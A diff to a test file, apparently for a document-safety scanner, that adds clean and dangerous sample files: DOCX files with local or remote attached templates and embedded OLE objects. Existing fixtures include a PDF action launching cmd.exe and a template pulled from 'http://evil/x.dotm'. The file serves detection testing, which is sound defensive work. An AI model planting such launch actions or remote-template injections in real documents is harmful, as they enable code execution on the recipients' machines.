@@ -12,14 +12,20 @@ from tests.support import papers
 
 LAUNCH = "/OpenAction<</S/Launch/F(cmd.exe)>>"
 TEMPLATE = (
-    '<Relationships><Relationship Type="x/attachedTemplate" Target="http://evil/x.dotm"'
+    '<Relationships><Relationship Type="x/attachedTemplate" Target="{}"'
     ' TargetMode="External"/></Relationships>'
-)
+).format
+REMOTE, OWN = TEMPLATE("http://evil/x.dotm"), TEMPLATE(r"file:///C:\Users\x\Normal.dotm")
 CLEAN = {
     "a.jpg": (papers.photograph(), "jpeg"),
     "a.gif": (papers.moving_gif(), "gif"),
     "a.pdf": (papers.pdf("hello"), "pdf"),
     "a.docx": (papers.docx(), "docx"),
+    "b.docx": (papers.docx(word___rels__settings_DOT_xml_DOT_rels=OWN), "docx"),
+    "c.docx": (
+        papers.docx(word__embeddings__oleObject1_DOT_bin=papers.ole("Equation Native")),
+        "docx",
+    ),
     "a.xlsx": (papers.xlsx(("a", 1)), "xlsx"),
     "a.ofd": (papers.ofd(), "ofd"),
     "a.doc": (papers.ole("WordDocument", "1Table"), "doc"),
@@ -41,7 +47,11 @@ DANGEROUS = {
     "script, hidden": ("a.pdf", papers.pdf_hiding_a_script()),
     "launch": ("a.pdf", papers.pdf(catalog=LAUNCH)),
     "embedded_file": ("a.pdf", papers.pdf(catalog="/Names<</EmbeddedFiles<</Names[]>>>>")),
-    "remote_template": ("a.docx", papers.docx(word___rels__settings_DOT_xml_DOT_rels=TEMPLATE)),
+    "remote_template": ("a.docx", papers.docx(word___rels__settings_DOT_xml_DOT_rels=REMOTE)),
+    "embedded_file in a document": (
+        "a.docx",
+        papers.docx(word__embeddings__oleObject1_DOT_bin=papers.ole("\x01Ole10Native")),
+    ),
     "encrypted": ("a.zip", papers.locked_zip()),
     "encrypted office": ("a.docx", papers.ole("EncryptedPackage", "EncryptionInfo")),
     "nested_archive": ("a.zip", papers.packed({"b.zip": papers.packed({"a.txt": "a"})})),
